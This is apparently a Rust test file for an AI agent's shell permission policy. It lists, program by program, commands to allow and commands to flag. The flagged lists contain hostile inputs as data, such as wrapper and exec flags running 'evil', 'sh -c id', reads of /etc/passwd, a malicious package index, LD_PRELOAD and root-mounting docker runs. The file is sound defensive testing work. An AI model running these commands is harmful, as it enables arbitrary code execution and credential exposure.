//! Program by program: calls that a rule for the program and an approved plan cover, and calls that bring in another
//! program, further flags or a place outside the project, which neither covers.

use crate::agent::Constraints;
use crate::policy::command_line::{CommandLine, SimpleCommand};
use crate::policy::rule::{Anchors, List, Origin, RuleScope};
use crate::policy::{Action, ActionKind, Mode, Permissions, Rule, Rules, Verdict, judge};

/// Words split at spaces; `·` stands for a space inside a word.
pub(super) fn argv(text: &str) -> Vec<String> {
    text.split(' ').map(|word| word.replace('·', " ")).collect()
}

/// The verdict over a command; `is_allowed`: in an approved plan, with a rule that allows every use of its program.
pub(super) fn judged(text: &str, is_allowed: bool) -> Verdict {
    verdict(text, is_allowed, is_allowed)
}

/// The verdict over a command in an approved plan, without any rule.
pub(super) fn planned(text: &str) -> Verdict {
    verdict(text, false, true)
}

fn verdict(text: &str, is_allowed: bool, approved: bool) -> Verdict {
    let origin = Origin { scope: RuleScope::User, file: "settings.json".into(), line: 1 };
    let anchors = Anchors { root: "/r", base: "/r", home: "/h" };
    let argv = argv(text);
    let env: Vec<(String, String)> = argv
        .iter()
        .map_while(|word| {
            word.split_once('=')
                .filter(|(name, _)| name.chars().all(|letter| letter.is_ascii_uppercase() || letter == '_'))
        })
        .map(|(name, value)| (name.to_owned(), value.to_owned()))
        .collect();
    let argv: Vec<String> = argv.into_iter().skip(env.len()).collect();
    let rule = format!("Bash({}:*)", argv[0]);
    let rules = if is_allowed { vec![Rule::new(List::Allow, &rule, origin, &anchors)] } else { Vec::new() };
    let permissions = Permissions { root: "/r".into(), rules, ..Permissions::default() };
    let none = Constraints::default();
    let rules = Rules { permissions: &permissions, approved, ..Rules::new(Mode::Default, &none) };
    let line = CommandLine::Plain(vec![SimpleCommand { argv, env, ..SimpleCommand::default() }]);
    judge(&rules, "run_shell", &Action { kind: ActionKind::Execute, line: Some(line), ..Action::read(text) }).verdict
}

/// One program: what is covered, what is not.
struct Program {
    covered: &'static [&'static str],
    asked: &'static [&'static str],
}

const fn program(covered: &'static [&'static str], asked: &'static [&'static str]) -> Program {
    Program { covered, asked }
}

const PROGRAMS: &[Program] = &[
    program(
        &[
            "cargo test -p core --lib",
            "cargo build --manifest-path sub/Cargo.toml",
            "cargo +nightly test",
            "cargo -C sub test",
        ],
        &[
            "cargo --config build.rustc-wrapper=x build",
            "cargo test --config=x",
            "cargo test --manifest-path ../x/Cargo.toml",
            "cargo -C .. test",
            "cargo build --target-dir /tmp/x",
            "cargo install --path ../x",
            "cargo nextest run --config-file x.toml",
            "RUSTC_WRAPPER=evil cargo build",
            "RUSTFLAGS=x cargo build",
        ],
    ),
    program(
        &["rustc -O src/main.rs", "rustc -o out src/main.rs"],
        &["rustc -Clinker=evil x.rs", "rustc @flags x.rs", "rustc -o ../x a.rs"],
    ),
    program(
        &["go test ./...", "go test -run=X -count=1 ./a", "go build -o bin/x ./cmd", "go -C sub test", "go vet ./..."],
        &[
            "go test -exec evil ./...",
            "go test --exec=sh·-c ./...",
            "go build -toolexec=evil",
            "go build -o /tmp/x",
            "go -C .. test",
            "go test -C=../x",
            "go test ../x/...",
            "go build -ldflags=-extld=evil",
            "go build -overlay=x.json",
            "GOFLAGS=x go test",
        ],
    ),
    program(
        &["gcc -O2 -Wall -Iinclude -o out a.c", "gcc -c a.c -lm -fPIC", "gcc -DX=1 -std=c11 a.c"],
        &[
            "gcc -wrapper evil a.c",
            "gcc -B/tmp a.c",
            "gcc -B tools a.c",
            "gcc -fplugin=evil.so a.c",
            "gcc @flags a.c",
            "gcc -specs=x a.c",
            "gcc --specs=x a.c",
            "gcc -Wl,-plugin,evil a.c",
            "gcc -I/etc a.c",
            "gcc -o ../x a.c",
            "gcc /etc/passwd",
            "gcc -fuse-ld=evil a.c",
        ],
    ),
    program(&["ld -o out a.o"], &["ld -plugin evil a.o", "ld --plugin=evil a.o", "ld @x", "ld -T ../x a.o"]),
    program(
        &["make", "make -j4 test", "make -C sub V=1", "make -f build/Makefile all", "make -kj2 TESTS=a"],
        &[
            "make -C .. test",
            "make -C/tmp",
            "make -kC ..",
            "make -f /tmp/Makefile",
            "make -f-",
            "make -sf -",
            "make --file=../x",
            "make --fil=../x",
            "make --makefile=/dev/stdin",
            "make SHELL=/tmp/x",
            "make test CC=evil",
            "make --eval=x:;id",
            "make --ev=x",
            "make MAKEFLAGS=x",
            "make -e",
            "make -I../x",
            "make deploy",
        ],
    ),
    program(&["just test", "ninja -C build -j4"], &["just -f ../x", "ninja -C ../x"]),
    program(&["just --justfile build/justfile test"], &["just -c evil", "just --shell evil test", "just -d .. test"]),
    program(
        &["cmake -S . -B build", "cmake --build build -j4", "cmake -DCMAKE_BUILD_TYPE=Release -B build"],
        &[
            "cmake -P x.cmake",
            "cmake -C x.cmake .",
            "cmake -E rm x",
            "cmake -DCMAKE_C_COMPILER_LAUNCHER=evil .",
            "cmake -D CMAKE_TOOLCHAIN_FILE=x .",
            "cmake --build ../x",
            "cmake -B /tmp/x",
            "cmake --install build",
        ],
    ),
    program(
        &["ctest --test-dir build -R x"],
        &["ctest -S x", "ctest --test-dir ../x", "ctest --build-and-test a b", "ctest -O ../x"],
    ),
    program(
        &["gradle test", "gradle -p sub build", "gradle -Pfoo=bar check"],
        &[
            "gradle -I x test",
            "gradle --init-script=x",
            "gradle -p ..",
            "gradle -b /tmp/x",
            "gradle -Dorg.gradle.jvmargs=x test",
            "gradle -g x test",
        ],
    ),
    program(
        &["mvn -q test", "mvn -DskipTests package", "mvn -f sub/pom.xml test", "mvn -Dtest=A#b test", "mvn -pl a test"],
        &[
            "mvn -f ../pom.xml test",
            "mvn -Dexec.executable=sh test",
            "mvn -Dmaven.ext.class.path=x test",
            "mvn -s x test",
            "mvn -gs x test",
            "mvn deploy",
        ],
    ),
    program(&["ant -f sub/build.xml test"], &["ant -f ../x", "ant -lib evil test", "ant -Dbuild.compiler=evil test"]),
    program(&["bazel test //a:b"], &["bazel run --run_under=evil x", "bazel --bazelrc=x test"]),
    program(
        &["javac -d out A.java"],
        &["javac @x", "javac -J-javaagent:x A.java", "javac -processorpath x A.java", "javac -d ../x A.java"],
    ),
    program(
        &["java -cp out Main"],
        &["java -javaagent:x Main", "java -XX:OnError=evil Main", "java @x", "java -cp /tmp Main"],
    ),
    program(
        &["dotnet test", "dotnet build --project sub", "dotnet test --filter A"],
        &[
            "dotnet @x",
            "dotnet build --project ../x",
            "dotnet test --logger ../evil",
            "dotnet build -p:CustomBeforeTargets=../x",
        ],
    ),
    program(
        &["npm test", "npm run build", "npm --prefix web test", "npm ci --ignore-scripts", "npm install lodash"],
        &[
            "npm --prefix ../x test",
            "npm -C .. test",
            "npm --script-shell=evil test",
            "npm --node-options=x test",
            "npm --userconfig=x test",
            "npm install ../x",
            "npm exec evil",
            "npm x evil",
            "npm install -g x",
            "npm run deploy",
        ],
    ),
    program(
        &["npx jest a", "npx tsc -p sub"],
        &["npx -c evil", "npx jest --config ../x", "npx tsc -p ../x", "npx --node-options=x jest"],
    ),
    program(
        &["pnpm test", "pnpm -C web test"],
        &["pnpm -C .. test", "pnpm --dir=../x test", "pnpm --pnpmfile=x install"],
    ),
    program(&["yarn test", "yarn --cwd web test"], &["yarn --cwd .. test", "yarn exec evil"]),
    program(&["bun test"], &["bun test --preload evil", "bun --cwd=.. test"]),
    program(&["tsc -p sub", "tsc --noEmit"], &["tsc -p ../x", "tsc @x", "tsc --outDir /tmp/x", "tsc --build ../x"]),
    program(
        &["eslint src --ext .ts --cache -f json", "eslint -c conf/x.js src"],
        &[
            "eslint -c ../x .",
            "eslint --rulesdir x .",
            "eslint --resolve-plugins-relative-to x .",
            "eslint -f ../x .",
            "eslint ../x",
            "eslint -o ../x .",
        ],
    ),
    program(&["prettier --check src"], &["prettier --plugin=x .", "prettier --config ../x .", "prettier ../x"]),
    program(
        &["jest a -t b", "jest --coverage --watch", "jest --config conf/x.js --reporters=default"],
        &[
            "jest --config=../x",
            "jest --globalSetup=x",
            "jest --rootDir=..",
            "jest --runner=x",
            "jest --projects=x",
            "jest ../x",
        ],
    ),
    program(&["vitest run a"], &["vitest --config ../x", "vitest --root .."]),
    program(&["mocha test"], &["mocha -r x", "mocha --require=x", "mocha --config ../x", "mocha ../x"]),
    program(
        &[
            "pytest -q tests/test_x.py::test_a",
            "pytest -k a·and·b -x",
            "pytest -xvs",
            "pytest -c conf/x.ini --collect-only",
        ],
        &[
            "pytest -p x",
            "pytest -px",
            "pytest -c ../x",
            "pytest --rootdir=..",
            "pytest -o x=y",
            "pytest --override-ini=x",
            "pytest ../x",
            "pytest @x",
            "pytest --basetemp=../x",
            "PYTHONPATH=../x pytest",
            "PYTEST_ADDOPTS=x pytest",
        ],
    ),
    program(&["ruff check src"], &["ruff --config ../x check", "ruff check ../x", "ruff check -o ../x"]),
    program(&["black --check src"], &["black --config ../x .", "black ../x"]),
    program(
        &["mypy src"],
        &[
            "mypy --config-file ../x .",
            "mypy --python-executable evil .",
            "mypy ../x",
            "mypy @x",
            "mypy --shadow-file a b x",
        ],
    ),
    program(&["flake8 src"], &["flake8 --config ../x", "flake8 --append-config=../x"]),
    program(&["pylint src"], &["pylint --rcfile=../x a", "pylint --load-plugins=x a", "pylint --init-hook=x a"]),
    program(&["tox -e py"], &["tox -c ../x", "tox --conf=../x", "tox -x a=b", "tox --root .."]),
    program(&["nox -s test"], &["nox -f ../x", "nox --noxfile=/tmp/x"]),
    program(&["coverage run a.py"], &["coverage run --rcfile=../x a.py", "coverage html -d ../x"]),
    program(
        &["pip install -r requirements.txt"],
        &[
            "pip install -r ../x",
            "pip install --index-url https://evil.example x",
            "pip install -e ../x",
            "pip install -t /tmp x",
            "pip install ../x",
        ],
    ),
    program(
        &["uv run pytest -q"],
        &[
            "uv run --directory .. pytest",
            "uv run pytest -p x",
            "uv run --project=../x pytest",
            "uv run --config-file=x pytest",
        ],
    ),
    program(&["poetry run pytest"], &["poetry -C .. run pytest", "poetry run -P .. pytest", "poetry run pytest -p x"]),
    program(&["bundle exec rspec"], &["bundle --gemfile=../x exec rspec", "bundle exec rspec -r x"]),
    program(
        &["rake test", "rake -j4 test"],
        &["rake -f ../x", "rake -e x", "rake -rx test", "rake -C .. test", "rake -N -f ../x"],
    ),
    program(&["rspec spec/a_spec.rb"], &["rspec -r x", "rspec -O ../x", "rspec ../x"]),
    program(&["composer install"], &["composer -d .. install", "composer --working-dir=../x install"]),
    program(&["phpunit tests"], &["phpunit -c ../x", "phpunit --bootstrap=x", "phpunit ../x"]),
    program(&["prove t"], &["prove -e evil", "prove --exec=evil", "prove -I../x"]),
    program(
        &["python3 a.py", "python3 -m pytest -q", "python3 -m unittest"],
        &[
            "python3 ../x.py",
            "python3 -m pytest -p x",
            "python3 -m pip install -r ../x",
            "python3 -m mypy --config-file ../x a",
        ],
    ),
    program(
        &["node a.js", "node --test"],
        &["node ../x.js", "node -r ../x a.js", "node --import=/tmp/x a.js", "node --env-file ../x a.js"],
    ),
    program(&["ruby a.rb"], &["ruby ../a.rb", "ruby -I ../x a.rb"]),
    program(&["sh run.sh"], &["sh ../run.sh", "sh -c id", "sh /tmp/x"]),
    program(
        &["tar xf a.tar", "tar -xzf a.tgz -C out", "tar cf a.tar src", "tar tvf a.tar"],
        &[
            "tar -xvIevil -f a.tar",
            "tar -xI evil -f a.tar",
            "tar xIf evil a.tar",
            "tar xfC a.tar ..",
            "tar -xf a.tar -C /tmp",
            "tar --to-com=evil -xf a.tar",
            "tar -xf a.tar --checkpoint-action=exec=evil",
            "tar cf ../a.tar src",
            "tar cf a.tar ../x",
            "tar -cT /etc/x -f a.tar",
            "tar xf host:a.tar",
            "tar -xF evil -f a.tar",
        ],
    ),
    program(
        &["zip -r a.zip src"],
        &["zip -rTT evil a.zip src", "zip a.zip -T -TT evil src", "zip -r ../a.zip src", "zip a.zip ../x"],
    ),
    program(&["unzip a.zip -d out"], &["unzip a.zip -d ..", "unzip ../a.zip"]),
    program(
        &["rsync -a src out"],
        &[
            "rsync -e evil a b",
            "rsync -ave evil a b",
            "rsync --rsh=evil a b",
            "rsync -a /etc out",
            "rsync -a src evil.example:x",
        ],
    ),
    program(&["fd x src", "fd -e rs"], &["fd -x evil", "fd x -X evil", "fd --exec=evil", "fd -Hx evil", "fd x .."]),
    program(&["find . -name x"], &["find . -exec evil ;", "find . -fprint ../x", "find .. -delete", "find / -name x"]),
    program(
        &["sort x", "sort -nr x"],
        &["sort -o ../x y", "sort --out=../x y", "sort --compress-prog=evil x", "sort -nro/tmp/x y"],
    ),
    program(&["rg x src"], &["rg --pre evil x", "rg --pre=evil x", "rg x /etc"]),
    program(&["split -l 5 x"], &["split --filter=evil x", "split --fil=evil x"]),
    program(&["man ls"], &["man -P evil ls", "man --pager=evil ls", "man -Hevil ls"]),
    program(&["less x"], &["less -k x y", "less -o ../x y"]),
    program(&["env LANG=C ls"], &["env -S evil", "env PATH=. ls", "env -C .. ls", "env LD_PRELOAD=x ls"]),
    program(&["timeout 5 ls"], &["timeout 5 cat /etc/passwd", "timeout -k 5 5 sh -c id"]),
    program(&["strace -f ls"], &["strace -o ../x ls", "strace sh -c id"]),
    program(
        &["docker run --rm -it alpine ls", "docker build -t x ."],
        &[
            "docker run -v /:/x alpine",
            "docker run -itv /:/x alpine",
            "docker run --privileged alpine",
            "docker --config x ps",
            "docker build ..",
            "docker build -f ../x .",
            "docker -H evil.example ps",
        ],
    ),
    program(&["docker-compose up"], &["docker-compose -f ../x up", "docker-compose --project-directory .. up"]),
];

#[test]
fn each_program_by_its_flags() {
    let wrong = |text: &&&str, want: Verdict| match want {
        Verdict::Allow => verdict(text, true, true) != want,
        // An approved plan stands behind any program that does no more than run.
        _ => verdict(text, true, false) != want || (!text.contains("evil") && verdict(text, true, true) != want),
    };
    let mut found = Vec::new();
    for Program { covered, asked } in PROGRAMS {
        found.extend(covered.iter().filter(|text| wrong(text, Verdict::Allow)).map(|text| ("asks", *text)));
        found.extend(asked.iter().filter(|text| wrong(text, Verdict::Ask)).map(|text| ("passes", *text)));
    }
    assert!(found.is_empty(), "{found:#?}");
}

/// Utilities that only look.
const FREE: &[&str] = &[
    "wc -l x",
    "head -n5 x",
    "tail -20 x",
    "sort -u x",
    "uniq -c x",
    "cut -d, -f1 x",
    "tr a b",
    "nl x",
    "tac x",
    "column -t x",
    "jq .a x",
    "jq -r --arg x 1 .a x",
    "yq .a x",
    "file x",
    "stat x",
    "du -sh .",
    "df -h",
    "basename a/b",
    "dirname a/b",
    "realpath x",
    "readlink -f x",
    "date +%s",
    "uname -a",
    "whoami",
    "id -u",
    "which cargo",
    "printf %s x",
    "seq 1 5",
    "tree -L 2",
    "diff -u a b",
    "cmp a b",
    "comm a b",
    "md5sum x",
    "sha256sum -c x",
    "xxd x",
    "od -c x",
    "hexdump -C x",
    "strings x",
    "test -f x",
    "[ -f x ]",
    "true",
    "false",
    "echo --- x",
    "pwd",
    "ps aux",
    "base64 x",
    "zcat x",
    "nm x",
    "find . -newermt 2024-01-01",
    "find src -type f -exec grep -l x {} +",
    "sed -nE s/a/b/p x",
    "awk NR>1{print} x",
];

/// The same, where they write, run or show more.
const NOT_FREE: &[&str] = &[
    "env",
    "printenv",
    "sort -o x y",
    "uniq a b",
    "xxd a b",
    "yq -i .a=1 x",
    "jq env x",
    "jq --rawfile a /etc/passwd . x",
    "yq load(\"x\") y",
    "date -s x",
    "tree -o x",
    "shuf -o x y",
    "file -C -m x",
    "cat /etc/passwd",
    "strings @x",
    "sed -i s/a/b/ x",
    "sed -f x y",
    "awk {print>\"x\"}",
    "man -P evil ls",
];

#[test]
fn small_utilities_look_unasked() {
    let stopped: Vec<_> = FREE.iter().filter(|text| judged(text, false) != Verdict::Allow).collect();
    assert!(stopped.is_empty(), "{stopped:#?}");
    let passed: Vec<_> = NOT_FREE.iter().filter(|text| judged(text, false) != Verdict::Ask).collect();
    assert!(passed.is_empty(), "{passed:#?}");
}
